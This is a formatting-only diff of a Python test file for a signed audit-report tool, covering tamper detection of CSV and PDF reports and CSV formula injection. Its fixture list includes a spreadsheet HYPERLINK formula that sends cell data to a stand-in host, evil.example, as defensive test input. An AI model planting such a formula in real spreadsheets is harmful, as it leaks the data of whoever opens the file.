@@ -44,8 +44,15 @@ def store(tmp_path: Path) -> Iterator[SqliteStore]:
     s.close()
 
 
-def _issue(store: SqliteStore, out: Path, fmt: ReportFormat, *, landlord: str = "paris-habitat",
-           reg: Registry | None = None, lang: Lang = Lang.FR) -> Path:
+def _issue(
+    store: SqliteStore,
+    out: Path,
+    fmt: ReportFormat,
+    *,
+    landlord: str = "paris-habitat",
+    reg: Registry | None = None,
+    lang: Lang = Lang.FR,
+) -> Path:
     report = build_report(store, reg or registry(), CAL, landlord, DAYS[0], DAYS[-1], now=NOW)
     write_report(report, out, fmt, lang, load_signing_key())
     return out
@@ -99,7 +106,7 @@ def test_a_edited_csv_and_embedded_manifest_break_the_signature(store: SqliteSto
     rows = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8")), delimiter=";"))
     for row in rows:
         if row and row[0].startswith(MANIFEST_PREFIX):
-            data = json.loads(row[0][len(MANIFEST_PREFIX):])
+            data = json.loads(row[0][len(MANIFEST_PREFIX) :])
             next(c for c in data["figures"]["checkpoints"] if c["id"] == "a")["passes"] = 99
             row[0] = MANIFEST_PREFIX + json.dumps(data, ensure_ascii=False)
         elif row and row[0] == "a":
@@ -124,8 +131,7 @@ def test_b_another_landlords_pdf_with_recomputed_digest_fails(store: SqliteStore
     sidecar.write_text(json.dumps(data, indent=2), encoding="utf-8")
     result = _verify(mine, store)
     assert not result.ok
-    assert "SIGNATURE: the signature does not match the manifest: it was edited after it was issued" \
-        in result.message()
+    assert "SIGNATURE: the signature does not match the manifest: it was edited after it was issued" in result.message()
 
 
 def test_b_pdf_replaced_without_touching_the_sidecar_fails(store: SqliteStore, tmp_path: Path) -> None:
@@ -156,7 +162,7 @@ def test_c_dropped_last_day_fails_as_incomplete(store: SqliteStore, tmp_path: Pa
         rows = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8")), delimiter=";"))
         for row in rows:
             if row and row[0].startswith(MANIFEST_PREFIX):
-                row[0] = MANIFEST_PREFIX + json.dumps(drop(json.loads(row[0][len(MANIFEST_PREFIX):])))
+                row[0] = MANIFEST_PREFIX + json.dumps(drop(json.loads(row[0][len(MANIFEST_PREFIX) :])))
         rows = [r for r in rows if not (r and r[0] == "2026-11-11")]
         out = io.StringIO()
         csv.writer(out, delimiter=";", lineterminator="\n").writerows(rows)
@@ -201,8 +207,29 @@ def test_cli_names_the_edited_figure(store: SqliteStore, tmp_path: Path, capsys:
     s.write(WriteBatch(visits=tuple(visit(reg, cid, d, local(d, 17), local(d, 17, 5)) for d in DAYS[:5])))
     s.close()
     out = tmp_path / "rapport.csv"
-    assert main(["audit", "report", "--landlord", "paris-habitat", "--from", "2026-11-04", "--to", "2026-11-08",
-                 "--store", str(db), "--estate", str(default_estate_path()), "--format", "csv", "--out", str(out)]) == 0
+    assert (
+        main(
+            [
+                "audit",
+                "report",
+                "--landlord",
+                "paris-habitat",
+                "--from",
+                "2026-11-04",
+                "--to",
+                "2026-11-08",
+                "--store",
+                str(db),
+                "--estate",
+                str(default_estate_path()),
+                "--format",
+                "csv",
+                "--out",
+                str(out),
+            ]
+        )
+        == 0
+    )
     assert main(["audit", "key"]) == 0
     printed = capsys.readouterr().out
     key = public_key_text(load_signing_key())
@@ -220,8 +247,17 @@ def test_cli_names_the_edited_figure(store: SqliteStore, tmp_path: Path, capsys:
 # ---- CSV formula injection ---------------------------------------------------------------------
 
 
-HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1;"clic")', "+33 1 23", "-2+3", "@SUM(A1:A9)",
-                 "\tcmd", "\rcmd", "'déjà cité", "Bâtiment; =1+1", "normal"]
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A1;"clic")',
+    "+33 1 23",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tcmd",
+    "\rcmd",
+    "'déjà cité",
+    "Bâtiment; =1+1",
+    "normal",
+]
 
 
 def _hostile_registry() -> Registry:
